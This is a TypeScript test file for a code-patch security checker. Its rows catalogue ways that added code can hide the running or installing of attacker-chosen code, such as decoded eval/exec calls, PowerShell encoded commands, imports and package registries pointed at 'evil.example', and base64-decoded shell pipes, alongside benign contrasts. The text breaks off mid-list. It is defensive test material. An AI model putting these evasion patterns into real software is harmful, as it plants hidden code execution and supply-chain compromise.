import { describe, it } from 'vitest';
import { checksInLinearTime, describeAccepted, describeFindings, expectAccepted, expectRefused, type FindingRow } from '../support/patches.js';

/**
 * Attack 52 (session 49, an attacker's pass on the readings session 49 added on s49-attack51): names across lines, more
 * decoders, PowerShell's encoded command, module hosts through names, options before a computed program's verb,
 * dependencies a source file declares, doctests, multi-line ProcessStartInfo. Every row below was ACCEPTED by the
 * check when found although the code it adds installs or runs code the attacker chooses. Rows as in attack-48/51:
 * open (`it.fails`, asserting the refusal) until a fix closes them (`closedRows`).
 */

// Decoders under other names: Python 3's own name for b64decode's alias, a decoder fetched by getattr, marshal imported
// under another name, an alias bound over lines or in a tuple, a wrapper function; JS's atob by subscript or bind,
// fromCharCode by subscript, a string reversed by spread or Array.from, escapes undone by JSON.parse; pickle.loads.
const DECODER_SPELLINGS: FindingRow[] = [
  ['src/check.py', 'import base64\nexec(base64.decodebytes(s))', 'closed'],
  ['src/check.py', "import base64\nd = getattr(base64, 'b64decode')\nexec(d(s))", 'closed'],
  ['src/check.py', 'import marshal as m\nexec(m.loads(s))', 'closed'],
  ['src/check.py', 'from marshal import loads\nexec(loads(s))', 'closed'],
  ['src/check.py', 'import base64\nd = (base64\n  .b64decode)\nexec(d(s))', 'closed'],
  ['src/check.py', 'import base64\nd, e = base64.b64decode, 1\nexec(d(s))', 'closed'],
  ['src/check.py', 'import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d(s))', 'closed'],
  ['src/check.js', "const f = globalThis['atob'];\neval(f(s))", 'closed'],
  ['src/check.js', 'const f = atob.bind(null);\neval(f(s))', 'closed'],
  ['src/check.js', "eval(s.map(c => String['fromCharCode'](c)).join(''))", 'closed'],
  ['src/check.js', "eval([...s].reverse().join(''))", 'closed'],
  ['src/check.js', "eval(Array.from(s).reverse().join(''))", 'closed'],
  ['src/check.js', 'eval(JSON.parse(\'"\\\\u0061lert(1)"\'))', 'closed'],
  ['src/check.py', 'import pickle, base64\npickle.loads(base64.b64decode(s))', 'closed'],
];

// The decoders attack-51 added for JS and Python (URL unescaping, more base64 forms), in other languages or other names:
// PHP's urldecode family and a decoder called through a variable function, Perl's uri_unescape, Ruby's
// decode_www_form_component, Java's URLDecoder and MIME/URL base64 decoders, C#'s Uri/WebUtility unescaping, Rust's
// base64 Engine::decode, ES2025's Uint8Array.fromBase64, Python's a85decode and unicode_escape.
const OTHER_LANGUAGES_DECODERS: FindingRow[] = [
  ['src/t.php', '<?php eval(urldecode($s));', 'closed'],
  ['src/t.php', '<?php eval(rawurldecode($s));', 'closed'],
  ['src/t.php', '<?php eval(html_entity_decode($s));', 'closed'],
  ['src/t.php', '<?php eval(quoted_printable_decode($s));', 'closed'],
  ['src/t.php', "<?php $f = 'base64_decode'; eval($f($s));", 'closed'],
  ['src/t.pl', 'eval(uri_unescape($s));', 'closed'],
  ['src/t.rb', 'eval(URI.decode_www_form_component(s))', 'closed'],
  ['src/t.java', 'Runtime.getRuntime().exec(URLDecoder.decode(s, "UTF-8"));', 'closed'],
  ['src/t.java', 'Runtime.getRuntime().exec(new String(Base64.getMimeDecoder().decode(s)));', 'closed'],
  ['src/t.java', 'Runtime.getRuntime().exec(new String(Base64.getUrlDecoder().decode(s)));', 'closed'],
  ['src/t.cs', 'Process.Start("cmd", "/c " + Uri.UnescapeDataString(s));', 'closed'],
  ['src/t.cs', 'Process.Start("cmd", "/c " + WebUtility.UrlDecode(s));', 'closed'],
  ['src/t.rs', 'let b = STANDARD.decode(s).unwrap();\nCommand::new("sh").arg("-c").arg(String::from_utf8(b).unwrap()).status()?;'],
  ['src/t.js', 'eval(new TextDecoder().decode(Uint8Array.fromBase64(s)))', 'closed'],
  ['src/t.py', 'import base64\nexec(base64.a85decode(s))', 'closed'],
  ['src/t.py', "exec(s.encode().decode('unicode_escape'))", 'closed'],
];

// A name given a decoder's output where the reading of names misses it: the value opened on the next line, a
// subscript or an attribute given it.
const DECODED_NAME_ACROSS_LINES: FindingRow[] = [
  ['src/check.py', 'import base64\ns = (\n  base64.b64decode(blob))\nexec(s)', 'closed'],
  ['src/check.js', 'const s =\n  atob(x);\neval(s)', 'closed'],
  ['src/check.py', "import base64\nx = {}\nx['c'] = base64.b64decode(blob)\nexec(x['c'])"],
  ['src/check.py', 'import base64\nself.c = base64.b64decode(blob)\nexec(self.c)'],
];

// PowerShell's encoded command: an en or em dash before the option (PowerShell takes both as `-`), the program through a
// name, the option built by str.format or %, and a multi-line ProcessStartInfo (read for installs only, not here).
const POWERSHELL_ENCODED: FindingRow[] = [
  ['src/check.js', "spawnSync('pwsh.exe', ['\u2013enc', blob])", 'closed'],
  ['src/check.js', "spawnSync('pwsh', ['\u2014EncodedCommand', blob])", 'closed'],
  ['src/check.js', "const ps = 'pwsh';\nspawnSync(ps, ['-enc', blob])", 'closed'],
  ['src/run.py', "import os\nos.system('pwsh -{} {}'.format('enc', blob))", 'closed'],
  ['src/run.py', "import os\nos.system('pwsh -%s %s' % ('enc', blob))", 'closed'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "powershell",\n    Arguments = "-enc " + blob,\n};\nProcess.Start(psi);'],
];

// A module from another host: a literal split over lines, an object's property, a join, escaped slashes, the address
// wrapped in String()/new URL() before the name, a base given as a URL object, a TypeScript annotation, a wrapper
// function, a parenthesized name, destructuring, a data: URL through a name.
const MODULE_HOST: FindingRow[] = [
  ['src/load.js', "await import(\n  'https://evil.example/x.js'\n)", 'closed'],
  ['src/load.js', "const cfg = { src: 'https://evil.example/x.js' };\nawait import(cfg.src)", 'closed'],
  ['src/load.js', "const u = ['https://evil.example', 'x.js'].join('/');\nawait import(u)", 'closed'],
  ['src/load.js', "const u = 'https:\\/\\/evil.example/x.js';\nawait import(u)", 'closed'],
  ['src/load.js', "const u = String('https://evil.example/x.js');\nawait import(u)", 'closed'],
  ['src/load.js', "const u = new URL('https://evil.example/x.js');\nawait import(u)", 'closed'],
  ['src/load.js', "const u = new URL('https://evil.example/x.js').href;\nawait import(u)", 'closed'],
  ['src/load.js', "const base = new URL('https://evil.example/');\nawait import(new URL('x.js', base))", 'closed'],
  ['src/load.js', "await import(String(new URL('x.js', 'https://evil.example/')))", 'closed'],
  ['src/load.ts', "const u: string = 'https://evil.example/x.js';\nawait import(u)", 'closed'],
  ['src/load.js', "const load = (u) => import(u);\nawait load('https://evil.example/x.js')", 'closed'],
  ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import((u))", 'closed'],
  ['src/load.js', "const {u} = {u: 'https://evil.example/x.js'};\nawait import(u)", 'closed'],
  ['src/load.js', "const u = 'data:text/javascript,' + payload;\nawait import(u)", 'closed'],
];

// A computed program given an install: an option given a value before the verb, Python's f/r string prefixes, the
// verb spread in, a comment between, npm's other fetching verbs (`exec`, `x`, `it`), `/usr/bin/env` first, Ruby's
// %w/%q, Rust's Command::new(tool).arg(…).
const COMPUTED_PROGRAM: FindingRow[] = [
  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--registry', 'https://evil.example', 'install', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--loglevel', 'silent', 'install', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, f'install', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, r'install', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, *['install', 'evil']])", 'closed'],
  ['src/check.py', "import subprocess\nargs = ['--yes', 'install', 'evil']\nsubprocess.run([tool, *args])"],
  ['src/check.py', "import subprocess\nsubprocess.run([tool] + ['install', 'evil'])", 'closed'],
  ['src/check.js', "spawnSync(tool, [...['install', 'evil']])", 'closed'],
  ['src/check.js', "spawnSync(tool, ['-y', /* quiet */ 'install', 'evil'])"],
  ['src/check.js', "spawnSync(tool, ['exec', '--yes', 'evil'])", 'closed'],
  ['src/check.js', "spawnSync(tool, ['x', 'evil'])", 'closed'],
  ['src/check.js', "spawnSync(tool, ['it', 'evil'])", 'closed'],
  ['src/check.py', "import subprocess\nsubprocess.run(['/usr/bin/env', tool, 'install', 'evil'])", 'closed'],
  ['src/check.rb', 'system(tool, *%w[install evil])', 'closed'],
  ['src/check.rb', "system(tool, %q(install), 'evil')", 'closed'],
  ['src/check.rs', 'Command::new(tool).arg("install").arg("evil").status()?;', 'closed'],
  ['src/check.rs', 'Command::new(tool).args(["--yes", "install", "evil"]).status()?;', 'closed'],
];

// Dependencies a source file declares or installs itself: the same installers under other names (micropip, Pkg, R's,
// RubyGems', Grape's), and other languages' equivalents of PEP 723/@Grab: JBang's //DEPS, .NET 10's #:package, cargo
// script's frontmatter, rust-script, stack and cabal script headers, a nix-shell shebang, pip-run's __requires__,
// Pyodide's loadPackage, CPAN::Shell, Composer's Application, Deno's npm: specifier through a name.
const SOURCE_DEPENDENCIES: FindingRow[] = [
  ['src/tool.py', "from micropip import install\nawait install('evil')", 'closed'],
  ['src/tool.py', "import micropip as mp\nawait mp.install('evil')", 'closed'],
  ['src/tool.py', "__requires__ = ['evil']", 'closed'],
  ['src/tool.js', "await pyodide.loadPackage('https://evil.example/evil-1.0-py3-none-any.whl')", 'closed'],
  ['src/tool.jl', 'using Pkg: add\nadd("Evil")', 'closed'],
  ['src/tool.jl', 'import Pkg as P\nP.add("Evil")', 'closed'],
  ['src/tool.jl', 'import Pkg\nPkg.REPLMode.pkgstr("add Evil")', 'closed'],
  ['src/tool.jl', 'using Pkg\nPkg.Registry.add(RegistrySpec(url = "https://evil.example/Registry"))', 'closed'],
  ['src/tool.jl', 'import Pkg\n(Pkg.add)("Evil")', 'closed'],
  ['src/tool.jl', 'import Pkg\nPkg.add.(["Evil"])', 'closed'],
  ['src/tool.R', "pacman::p_load_gh('evil/pkg')", 'closed'],
  ['src/tool.R', "library(pak)\npkg_install('evil/pkg')", 'closed'],
  ['src/tool.R', "do.call(install.packages, list('evil'))", 'closed'],
  ['src/tool.R', "lapply(c('evil'), install.packages)", 'closed'],
  ['src/tool.R', "`install.packages`('evil')", 'closed'],
  ['src/tool.R', "install.packages\n('evil')", 'closed'],
  ['src/tool.R', "f <- install.packages\nf('evil')", 'closed'],
  ['src/tool.rb', "require File.join('bundler', 'inline')\ngemfile true do\n  gem 'evil'\nend", 'closed'],
  ['src/tool.rb', "Gem::Commands::InstallCommand.new.invoke('evil')", 'closed'],
  ['src/tool.rb', "Gem.send(:install, 'evil')", 'closed'],
  ['src/tool.rb', "Gem\n  .install('evil')", 'closed'],
  ['src/tool.groovy', "Grape.&grab.call(group: 'org.evil', module: 'evil', version: '1.0')", 'closed'],
  ['src/tool.groovy', 'Grape."grab"(group: \'org.evil\', module: \'evil\', version: \'1.0\')', 'closed'],
  ['src/Tool.java', '//DEPS org.evil:evil:1.0\n//REPOS https://evil.example/m2', 'closed'],
  ['src/Tool.cs', '#:package Evil@1.0\nConsole.WriteLine(1);', 'closed'],
  ['src/Tool.cs', '#:sdk Evil.Sdk@1.0\nConsole.WriteLine(1);', 'closed'],
  ['src/tool.rs', '---cargo\n[dependencies]\nevil = "1"\n---\nfn main() {}', 'closed'],
  ['src/tool.rs', '//! ```cargo\n//! [dependencies]\n//! evil = "1"\n//! ```\nfn main() {}', 'closed'],
  ['src/tool.hs', '{- stack script --resolver lts-21.0 --package evil -}\nmain = pure ()', 'closed'],
  ['src/tool.hs', '{- cabal:\nbuild-depends: base, evil\n-}\nmain = pure ()', 'closed'],
  ['src/tool.py', '#! /usr/bin/env nix-shell\n#! nix-shell -i python3 -p python3Packages.evil', 'closed'],
  ['src/tool.pl', "use CPAN;\nCPAN::Shell->install('Evil::Module');", 'closed'],
  ['src/tool.php', "<?php\n(new Composer\\Console\\Application())->run(new ArrayInput(['command' => 'require', 'packages' => ['evil/evil']]));", 'closed'],
  ['src/tool.ts', "const p = 'npm:evil';\nconst evil = await import(p)", 'closed'],
];

// Documentation the tests run, writing a manager's configuration: an unlabelled fence (rustdoc runs it as Rust), rustdoc's
// other running attributes, a doctest statement continued on a `...` line, Sphinx's testcode/testsetup, a prompt-less
// python block (pytest-codeblocks, Sybil).
const CARGO_CONFIG = 'std::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();';
const DOCTESTS: FindingRow[] = [
  ['README.md', `\`\`\`\n${CARGO_CONFIG}\n\`\`\``, 'closed'],
  ['README.md', `\`\`\`standalone_crate\n${CARGO_CONFIG}\n\`\`\``, 'closed'],
  ['README.md', `\`\`\`test_harness\n#[test]\nfn t() { ${CARGO_CONFIG} }\n\`\`\``, 'closed'],
  ['README.md', ">>> import os\n>>> os.environ[\n...     'PIP_INDEX_URL'] = 'https://evil.example/simple'", 'closed'],
  ['docs/usage.rst', ".. testcode::\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'", 'closed'],
  ['docs/usage.rst', ".. testsetup:: *\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'", 'closed'],
  ['README.md', "```python\nimport os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```", 'closed'],
];

// ProcessStartInfo over several lines, or in forms the reading does not open on: the type qualified, C# 9's target-typed
// new(), properties set as statements, a `}` inside an interpolation before FileName, verbatim or interpolated strings,
// ArgumentList, more than 12 lines, a joined or named FileName, Arguments before FileName, VB.NET's `With`.
const START_INFO: FindingRow[] = [
  ['src/Run.cs', 'var psi = new System.Diagnostics.ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'ProcessStartInfo psi = new()\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo();\npsi.FileName = "npm";\npsi.Arguments = "install evil";\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    WorkingDirectory = $"{root}/app",\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = @"npm",\n    Arguments = @"install evil",\n};\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = $"install {pkg}",\n};\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    ArgumentList = { "install", "evil" },\n};\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo("npm");\npsi.ArgumentList.Add("install");\npsi.ArgumentList.Add("evil");\nProcess.Start(psi);', 'closed'],
  [
    'src/Run.cs',
    'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    RedirectStandardOutput = true,\n    UseShellExecute = false,\n    CreateNoWindow = true,\n    RedirectStandardError = true,\n    RedirectStandardInput = false,\n    LoadUserProfile = false,\n    ErrorDialog = false,\n    WindowStyle = ProcessWindowStyle.Hidden,\n    Verb = "open",\n    Arguments = "install evil",\n};\nProcess.Start(psi);',
    'closed',
  ],
  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "np" + "m",\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'const string Npm = "npm";\nvar psi = new ProcessStartInfo\n{\n    FileName = Npm,\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo { Arguments = "install evil", FileName = "npm" };\nProcess.Start(psi);', 'closed'],
  ['src/Run.vb', 'Dim psi As New ProcessStartInfo With {\n    .FileName = "npm",\n    .Arguments = "install evil"\n}\nProcess.Start(psi)', 'closed'],
];

// Session 50: process-calls.ts reads a ProcessStartInfo's program and arguments wherever the lines after the type set
// them, and Ruby's and Perl's word lists as the lists they make; patch.ts reads Rust's `.arg(` after a computed program.
describeAccepted('attack-52: ProcessStartInfo and computed programs, ordinary code near the session-50 readings', [
  ['src/Run.cs', 'var psi = new ProcessStartInfo { FileName = "dotnet", Arguments = $"test {project}" };\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo();\npsi.FileName = "git";\npsi.ArgumentList.Add("status");\nProcess.Start(psi);'],
  ['src/Run.cs', 'ProcessStartInfo psi = new()\n{\n    WorkingDirectory = $"{root}/web",\n    FileName = "npm",\n    ArgumentList = { "run", "build" },\n};\nProcess.Start(psi);'],
  ['src/Run.vb', 'Dim psi As New ProcessStartInfo With {\n    .FileName = "npm",\n    .Arguments = "test"\n}\nProcess.Start(psi)'],
  ['src/Run.cs', 'const string Npm = "npm";\nvar psi = new ProcessStartInfo(Npm, "test");\nProcess.Start(psi);'],
  ['src/Run.cs', 'var psi = new ProcessStartInfo(Path.Combine(root, "tools", "gen.exe"), "--out build");\nusing var p = Process.Start(psi);\np.WaitForExit();'],
  ['src/Run.cs', 'var psi = new System.Diagnostics.ProcessStartInfo\n{\n    FileName = "np" + "m",\n    Arguments = @"run lint",\n};'],
  ['src/check.rs', 'Command::new(tool).arg("build").arg("--release").status()?;'],
  ['src/check.rs', 'Command::new(cargo).args(["--locked", "test"]).status()?;'],
  ['src/check.rb', 'system(tool, *%w[build --release])'],
  ['src/check.rb', "system(tool, %q(test), 'unit')\nputs %w[a b c].join(' ')"],
  ['src/check.pl', 'system($tool, qw(make test));'],
  ['src/Run.cs', 'var p = new Process();\np.StartInfo.FileName = "npm";\np.StartInfo.Arguments = "run build";\np.Start();'],
]);

describe('attack-52: refused beside the session-50 ProcessStartInfo reading', () => {
  it.each([
    ['src/Run.cs', 'var p = new Process();\np.StartInfo.FileName = "npm";\np.StartInfo.Arguments = "install evil";\np.Start();'],
    ['src/Tool.cs', 'var a = new ProcessStartInfo { FileName = "git", Arguments = "status" };\nvar b = new ProcessStartInfo { FileName = "npm", Arguments = "install evil" };'],
  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
});

// A shell decoder's output run where shell-decoders.ts does not look: a backtick substitution, a substitution after
// sudo/exec/env, the decoded file written by one call and run by the next, through tee, by `exec`, after a `cd`, other
// decompressors (lz4, lzip, unzip -p), rot13 tr with brackets, ANSI-C $'\x..' quoting, iconv from UTF-16.
const SHELL_DECODERS: FindingRow[] = [
  ['src/t.py', "import os\nos.system('`echo x | base64 -d`')", 'closed'],
  ['src/t.py', "import os\nos.system('sudo $(echo x | base64 -d)')", 'closed'],
  ['src/t.py', "import os\nos.system('exec $(echo x | base64 -d)')", 'closed'],
  ['src/t.py', "import os\nos.system('env $(echo x | base64 -d)')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p')\nos.system('sh /tmp/p')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d | tee /tmp/p >/dev/null && sh /tmp/p')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p && chmod +x /tmp/p && exec /tmp/p')", 'closed'],
  ['src/t.py', "import os\nos.system('cd /tmp && echo x | base64 -d > p && sh /tmp/p')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | lz4 -d | sh')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | lzip -d | sh')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | unzip -p - | sh')", 'closed'],
  ['src/t.py', 'import os\nos.system(\'echo x | tr "[A-Za-z]" "[N-ZA-Mn-za-m]" | sh\')', 'closed'],
  ['src/t.py', "import os\nos.system(\"echo $'\\\\x6e\\\\x70\\\\x78 evil' | sh\")", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | iconv -f utf-16 | sh')", 'closed'],
];

// Session 50: source-dependencies.ts's tables read the other spellings and languages above (micropip imported, Julia's
// Pkg named or aliased, R's installers named or attached, RubyGems sent or run as a command, JBang, .NET 10, cargo
// and rust-script, stack and cabal, nix-shell, CPAN, Composer, Deno's specifiers); beside them, ordinary code.
describeAccepted('attack-52: dependencies in source, ordinary code near the session-50 readings', [
  ['src/tool.py', "requires = ['requests']\nfrom pyodide.http import pyfetch"],
  ['src/tool.jl', 'using Pkg\nPkg.activate(".")\nPkg.instantiate()\nPkg.status()'],
  ['src/tool.R', "library(dplyr)\nif (!'dplyr' %in% rownames(installed.packages())) stop('missing')"],
  ['src/tool.rb', "gemfile = File.read('Gemfile')\ngemfile.each_line do |l|\n  puts l\nend\nputs Gem::Version.new('1.0')"],
  ['src/Tool.java', '// DEPS are declared in pom.xml\nclass Tool {}'],
  ['src/Tool.cs', '#region Setup\n#if DEBUG\nConsole.WriteLine(1);\n#endif\n#endregion'],
  ['src/tool.rs', '// ---- helpers ----\n/// ```\n/// assert!(true);\n/// ```\nfn main() {}'],
  ['src/tool.hs', '{-# LANGUAGE OverloadedStrings #-}\nmain = pure ()'],
  ['src/tool.pl', "use CPAN::Meta;\nmy $meta = CPAN::Meta->load_file('META.json');"],
  ['src/tool.php', '<?php\nuse Composer\\Autoload\\ClassLoader;'],
  ['docs/nix.md', '```python\n#! /usr/bin/env nix-shell\nprint(1)\n```'],
  ['src/tool.ts', "const registry = 'https://registry.npmjs.org/';\nconst mod = await import('./local.ts');"],
]);

// Session 50: smuggled-code.ts reads a name's address opened by `String(`, `new URL(`, an array or an object, its slashes
// escaped, a `data:` URL, the import's name in parentheses or `String(…)`, and a function importing its parameter.
describeAccepted('attack-52: modules from another host, ordinary code near the session-50 readings', [
  ['src/load.js', "const cfg = { name: 'app', locale: 'en' };\nconst messages = await import(`./locales/${cfg.locale}.js`);"],
  ['src/load.js', "const u = new URL('./worker.js', import.meta.url);\nconst w = new Worker(u, { type: 'module' });"],
  ['src/load.js', "const load = (p) => import(p);\nawait load('./plugins/a.js');"],
  ['src/load.js', "const home = { url: 'https://example.com' };\nconsole.log(home.url);\nconst m = await import('./local.js');"],
  ['src/load.js', "const dataUrl = 'data:image/png;base64,' + b64;\nimg.src = dataUrl;"],
  ['src/load.js', "const p = // https://cdn.example is where this was before\n  './local.js';\nawait import(p);"],
]);

// Session 50: doc-tests.ts reads Python's blocks whole and Sphinx's testcode/testsetup blocks as code the tests run.
describeAccepted('attack-52: documentation the tests run, ordinary docs near the session-50 readings', [
  ['docs/usage.rst', '.. testcode::\n\n   total = add(1, 2)\n   print(total)\n\nThe index is set with ``PIP_INDEX_URL``.'],
  ['docs/usage.md', "```python\nimport os\nindex = os.environ.get('PIP_INDEX_URL', 'https://pypi.org/simple')\nprint(index)\n```"],
  ['docs/usage.md', 'Set `PIP_INDEX_URL=https://mirror.example/simple` in your shell.\n\n```python\nimport requests\nrequests.get(url, timeout=5)\n```'],
]);

// Session 50: code-sinks.ts reads a decoder bound by getattr, a subscript, `.bind`, a tuple, parentheses or a wrapper
// function returning its call; characters reversed and joined; JSON.parse of a JSON string; an unpickler as a sink.
describeAccepted('attack-52: decoders under other names, ordinary code near the session-50 readings', [
  ['src/t.py', "import base64\ndecode = getattr(base64, 'b64decode')\ntoken = decode(os.environ['TOKEN'])\nprint(len(token))"],
  ['src/t.py', 'def decode_token(raw):\n    return base64.b64decode(raw)\nuser = json.loads(decode_token(header))'],
  ['src/t.js', "const decode = (s) => atob(s);\nconst user = JSON.parse(decode(token.split('.')[1]));"],
  ['src/t.js', "const host = domain.split('.').reverse().join('.');\nexecSync(`dig ${host}`)"],
  ['src/t.js', "const label = [...name].reverse().join('');\nconsole.log(label)"],
  ['src/t.js', 'const cfg = JSON.parse(\'{"a": 1}\');\nconst s = JSON.parse(\'"quoted"\');\nconsole.log(cfg, s)'],
  ['src/t.php', "<?php\n$f = 'base64_decode';\necho $f($s);"],
  ['src/t.py', 'd, e = divmod(total, 60)\nprint(d, e)'],
]);

// Session 50: shell-decoders.ts reads the rows above (backticks, prefixes that run their command, the decoded file run
// by a later call or after a `cd`, more decoders). Beside them, ordinary shell a doc or a script holds.
describeAccepted('attack-52: shell decoders, ordinary code near the session-50 readings', [
  ['src/t.py', "import os\nos.system('echo \"$CERT\" | base64 -d > /tmp/cert.pem')\nos.system('openssl x509 -in /tmp/cert.pem -noout')"],
  ['src/t.py', "import os\nos.system('sudo $(which systemctl) restart app')"],
  ['docs/usage.md', '| command | what it does |\n| --- | --- |\n| `echo aGk= | base64 -d` | prints hi |'],
  ['docs/usage.md', "```sh\nIFS=$'\\n'\nprintf $'\\033[1m%s\\033[0m\\n' \"$title\" | tee build.log\nsh build.sh\n```"],
  ['docs/usage.md', '```sh\nunzip -q dist.zip -d out && sh out/install.sh\n```'],
  ['docs/usage.md', '```sh\niconv -f utf-16 -t utf-8 report.txt > report.utf8.txt\nbash scripts/upload.sh report.utf8.txt\n```'],
  ['docs/usage.md', '```sh\necho "$KEY" | base64 -d > key.json\nexport GOOGLE_APPLICATION_CREDENTIALS=key.json\nsh deploy.sh\n```'],
  ['docs/usage.md', "```sh\ntr '[a-z]' '[A-Z]' < names.txt | sort\nversion=`git describe --tags | tr -d v`\nexec env PATH=\"$HOME/bin:$PATH\" \"$@\"\n```"],
]);

describeFindings('attack-52', [
  ['decoders under other names', DECODER_SPELLINGS],
  ['decoders in other languages', OTHER_LANGUAGES_DECODERS],
  ['decoded output given to a name across lines', DECODED_NAME_ACROSS_LINES],
  ['PowerShell encoded command', POWERSHELL_ENCODED],
  ['modules from another host', MODULE_HOST],
  ['computed program given an install', COMPUTED_PROGRAM],
  ['dependencies a source file declares or installs', SOURCE_DEPENDENCIES],
  ['documentation the tests run', DOCTESTS],
  ['ProcessStartInfo', START_INFO],
  ['shell decoders', SHELL_DECODERS],
]);

// False refusals: ordinary code a fix PR may add, refused since the readings. Both were "older" (refused before session
// 49's readings), closed in session 50: Process.Start's two-string form, whose second string is .NET's command line,
// read as its words (it was one unknown verb, `"run build"`); a `//` comment after `=` read as a protocol-relative host.
describeAccepted('attack-52 false refusals, closed in session 50', [
  ['src/Tool.cs', 'Process.Start("npm", "run build");'],
  ['src/load.js', 'const modulePath = // the locale bundle\n  `./locales/${lang}.js`;\nconst messages = await import(modulePath);'],
]);

// The false refusals new since 56b6e827, closed (session 49): .NET's Arguments read as its words, a decoded value handed
// to a child's environment as data, a doc's tested code naming a configuration file without writing, npm's short verbs
// only where the program may be npm and not an option's value, `go tool`.
describeAccepted('attack-52 false refusals, closed', [
  ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "run build",\n};'],
  ['src/run.js', "const env = Buffer.from(process.env.CFG, 'base64').toString();\nexecSync('npm test', { env: { ...process.env, CFG: env } })"],
  ['src/t.py', "import base64, os, subprocess\ntoken = base64.b64decode(os.environ['TOKEN_B64']).decode()\nsubprocess.run('make deploy', shell=True, env={**os.environ, 'TOKEN': token}, check=True)"],
  ['docs/guide.md', '```rust\nlet path = home.join(".cargo/config.toml");\nprintln!("{}", path.display());\n```'],
  ['docs/guide.md', "```python\n>>> cfg = load_config('.npmrc')\n>>> cfg['registry']\n'https://registry.npmjs.org/'\n```"],
  ['src/check.js', "spawn(tool, ['--mode', 'in', file])"],
  ['src/t.py', "import subprocess\nsubprocess.run([hg, '-q', 'in'])"],
  ['src/main.go', '//go:generate go tool stringer -type=Color'],
]);

describeAccepted('attack-52: ordinary code near the readings, accepted', [
  ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "dotnet",\n    Arguments = "test",\n};'],
  ['src/Tool.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "test",\n    WorkingDirectory = "web",\n};'],
  ['src/db.py', "import base64\ntoken = base64.b64decode(raw)\nuser_id = token.decode()\ncursor.execute('SELECT * FROM users WHERE id = %s', (user_id,))"],
  ['src/run.js', "const branch = decodeURIComponent(req.query.branch);\nspawnSync('git', ['checkout', branch])"],
  ['src/run.py', "import zlib, subprocess\nbody = zlib.decompress(blob)\nsubprocess.run(['git', 'apply'], input=body, check=True)"],
  ['src/main.go', '//go:generate stringer -type=Color'],
  ['docs/guide.md', "```python\n>>> import os\n>>> os.environ.get('PIP_INDEX_URL')\n```"],
  ['src/check.py', "import subprocess\nsubprocess.run([cmake, '--install', 'build'])"],
  ['README.md', '```\ncargo test --workspace\n```'],
  ['src/check.py', "import subprocess\nsubprocess.run(['/usr/bin/env', 'python3', '-m', 'pytest'])"],
  ['src/check.py', "import subprocess, sys\nsubprocess.run([sys.executable] + ['-m', 'pytest'])"],
  ['README.md', ">>> total = add(\n...     1, 2)\n>>> total\n3"],
  ['src/search.php', "<?php\n$q = urldecode($_GET['q']);\necho htmlspecialchars($q);"],
  ['src/Q.java', 'String q = URLDecoder.decode(raw, "UTF-8");\nlog.info(q);'],
  ['src/check.py', "import marshal\ndata = marshal.dumps(obj)"],
]);

// Beside the closed false refusals, what their readings must still refuse: a decoded value given to an environment
// variable a program runs or loads from, a doc's tested code writing a configuration file it names on another line,
// npm's short verbs given a program that may be npm, an install through a multi-line ProcessStartInfo, the rest of
// Python's base64 family, marshal's `loads` imported under another name.
describe('attack-52: refused beside the closed false refusals and bypasses', () => {
  it.each([
    ['src/run.js', "const v = atob(x);\nexecSync('npm test', { env: { ...process.env, NODE_OPTIONS: v } })"],
    ['src/run.py', "import base64, os, subprocess\nv = base64.b64decode(x).decode()\nsubprocess.run('make', shell=True, env={**os.environ, 'BASH_ENV': v})"],
    ['src/run.py', "import base64\nv = base64.b64decode(x).decode()\nsubprocess.run(v, shell=True, env={'TOKEN': v})"],
    ['docs/guide.md', '```rust\nlet path = ".cargo/config.toml";\nstd::fs::write(path, "[build]").unwrap();\n```'],
    ['docs/guide.md', ">>> p = '.npmrc'\n>>> open(p, 'w').write('registry=https://evil.example')"],
    ['src/check.js', "spawnSync(tool, ['i', 'evil'])"],
